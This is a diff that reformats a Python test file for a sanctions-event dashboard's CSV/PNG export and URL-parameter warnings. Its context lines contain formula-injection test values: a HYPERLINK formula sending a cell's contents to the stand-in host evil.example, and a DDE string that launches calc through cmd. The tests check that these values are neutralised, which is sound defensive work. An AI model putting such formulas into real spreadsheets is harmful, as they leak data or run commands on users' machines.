@@ -15,10 +15,17 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1)'
 
 def selection_frame(**overrides) -> pd.DataFrame:
     """One exported row as export_frame gives it, with some cells replaced."""
-    row = {"event_id": "e1", "event_date": pd.Timestamp("2019-01-23"), "title": "Plain",
-           "summary": "United States sanctions officials", "sources": ["United States"],
-           "targets": ["Venezuelan officials"], "countries": ["USA", "VEN"],
-           "confidence": -0.5, "url": "https://example.org/a"}
+    row = {
+        "event_id": "e1",
+        "event_date": pd.Timestamp("2019-01-23"),
+        "title": "Plain",
+        "summary": "United States sanctions officials",
+        "sources": ["United States"],
+        "targets": ["Venezuelan officials"],
+        "countries": ["USA", "VEN"],
+        "confidence": -0.5,
+        "url": "https://example.org/a",
+    }
     row.update(overrides)
     return pd.DataFrame([row])
 
@@ -35,8 +42,9 @@ def test_a_formula_title_is_exported_as_text_not_as_a_formula():
 
 def test_every_formula_start_of_owasp_is_neutralised_in_any_text_column():
     for start in ("=", "+", "-", "@", "\t", "\r"):
-        row = exported_row(selection_frame(summary=f"{start}cmd|' /C calc'!A0",
-                                           sources=[f"{start}SUM(A1)"]))
+        row = exported_row(
+            selection_frame(summary=f"{start}cmd|' /C calc'!A0", sources=[f"{start}SUM(A1)"])
+        )
         assert row["summary"].startswith("'" + start), start
         assert row["sources"].startswith("'" + start), start
 
@@ -56,8 +64,9 @@ def test_the_png_stamp_names_title_filters_source_and_as_of_date(store):
     from tracker.query import EventFilter
 
     found = data.summary(store)
-    stamp = export.png_stamp(ViewState(EventFilter(countries=("VEN",),
-                                                   event_types=("SANCTION_IMPOSE",))), found)
+    stamp = export.png_stamp(
+        ViewState(EventFilter(countries=("VEN",), event_types=("SANCTION_IMPOSE",))), found
+    )
     assert stamp["title"] == export.TITLE
     assert stamp["filters"] == "Filters: Event type: Sanctions imposed; Countries: VEN"
     assert stamp["source"].startswith("Source: ") and stamp["source"].endswith("2021-06-22")
@@ -71,11 +80,14 @@ def test_unknown_url_values_are_named_not_dropped_silently(store):
     from dashboards import notices
 
     options = data.summary(store).options
-    problems = notices.unknown_values("?type=SANCTION_IMPOS&country=VEN&colour=red"
-                                      "&start=2019-13-45", options)
-    assert problems == ["event type “SANCTION_IMPOS” (not in this store)",
-                        "unknown setting “colour”",
-                        "start date “2019-13-45” (not a YYYY-MM-DD date)"]
+    problems = notices.unknown_values(
+        "?type=SANCTION_IMPOS&country=VEN&colour=red&start=2019-13-45", options
+    )
+    assert problems == [
+        "event type “SANCTION_IMPOS” (not in this store)",
+        "unknown setting “colour”",
+        "start date “2019-13-45” (not a YYYY-MM-DD date)",
+    ]
     assert notices.unknown_values("?type=SANCTION_IMPOSE&country=VEN", options) == []
 
 
@@ -95,4 +107,3 @@ def test_the_page_opened_from_a_bad_link_shows_a_warning_naming_the_value(store)
     clean = layout.build(store)
     quiet = next(c for c in find(clean, html.Div) if getattr(c, "id", None) == ids.URL_WARNING)
     assert quiet.hidden is True
-
